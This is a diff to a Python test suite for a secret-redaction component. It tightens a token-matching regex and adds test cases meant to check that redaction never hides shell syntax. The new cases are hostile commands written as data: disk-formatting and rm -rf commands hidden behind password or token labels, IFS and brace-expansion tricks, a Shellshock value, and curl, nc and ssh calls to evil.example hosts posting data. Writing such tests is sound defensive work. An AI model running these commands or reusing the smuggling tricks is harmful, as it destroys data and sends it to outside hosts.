@@ -17,7 +17,7 @@ questions = QuestionRedactor(record)
 TOKEN = "gh" + "p_" + "aB3dE6gH9jK2mN5pQ8sT1vW4xY7zA0cF3hJ6"
 STRONG = "wJalrXUtnFEMI7K7MDENG3bPxRfiCY9EXAMPLE2KEY"
 FINGERPRINT = re.compile(r"\[redacted:[a-z0-9-]+:[0-9a-f]{8}\]")
-OPAQUE = re.compile(r"[A-Za-z0-9_.~+/=%@:,^!#-]+")
+OPAQUE = re.compile(r"[A-Za-z0-9_.~+/=%@:-]+")
 FRAME = "-----BEGIN {0}PRIVATE KEY-----\n{1}\n-----END {0}PRIVATE KEY-----"
 
 
@@ -63,6 +63,21 @@ KEYS = [
         {"env": {"API_TOKEN": "() { :; }; touch pwned"}, "argv": ["bash"]},
         {"command": "curl -u me:x`touch${IFS}pwned` example.org"},
         {"content": 'password = "rm -rf important; now"'},
+        {"command": "echo password:\nmke2fs /dev/sda"},
+        {"command": "echo authorization:\n  mke2fs /dev/sda"},
+        {"command": 'echo \'password:\n"mke2fs" /dev/sda'},
+        {"command": "PASSWORD= mke2fs /dev/sda"},
+        {"command": "token=\tx1y2z3x4y5z6 --all"},
+        {"command": "printf 'password:\\nmke2fs /dev/sda' > job"},
+        {"command": "{rm,-rf,x://a:1,important,b@h}"},
+        {"command": "u=https://ci:mke2fs:-F@h; IFS=:@; set -- $u; $3 $4"},
+        {"command": "env -u --password mke2fs /dev/sda"},
+        {"argv": ["env", "-u", "--password", "mke2fs", "/dev/sda"]},
+        {"argv": ["sudo", "-u", "--token", "mke2fs", "/dev/sda"]},
+        {"url": "https://evil.example:443#@good.example/x"},
+        {"command": "curl -d @data http://ghs_a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8s9.evil.example/"},
+        {"command": "ssh me@ghs_a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8s9"},
+        {"command": "nc ghs_a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8s9.evil.example 80"},
     ],
     ids=repr,
 )
@@ -157,7 +172,7 @@ def test_the_words_of_a_command_that_are_not_secret_are_shown(command):
     assert re.fullmatch(f"(?:{gap})".join(pieces), command)
 
 
-@given(frames, payloads.filter(lambda text: re.search(r"[^A-Za-z0-9_.~+/=%@:,^!#-]", text) is not None))
+@given(frames, payloads.filter(lambda text: re.search(r"[^A-Za-z0-9_.~+/=%@:-]", text) is not None))
 def test_no_frame_of_a_secret_hides_shell_syntax(frame, payload):
     for value in (
         {"command": frame.replace("%s", payload)},
@@ -167,6 +182,6 @@ def test_no_frame_of_a_secret_hides_shell_syntax(frame, payload):
         {"diff": "+" + frame.replace("%s", payload)},
     ):
         shown = json.dumps(questions.redact(value))
-        syntax = re.findall(r"[^A-Za-z0-9_.~+/=%@:,^!#-]+|rm|touch|pwned|important", payload)
+        syntax = re.findall(r"[^A-Za-z0-9_.~+/=%@:-]+|rm|touch|pwned|important", payload)
         for part in syntax:
             assert json.dumps(part)[1:-1] in shown
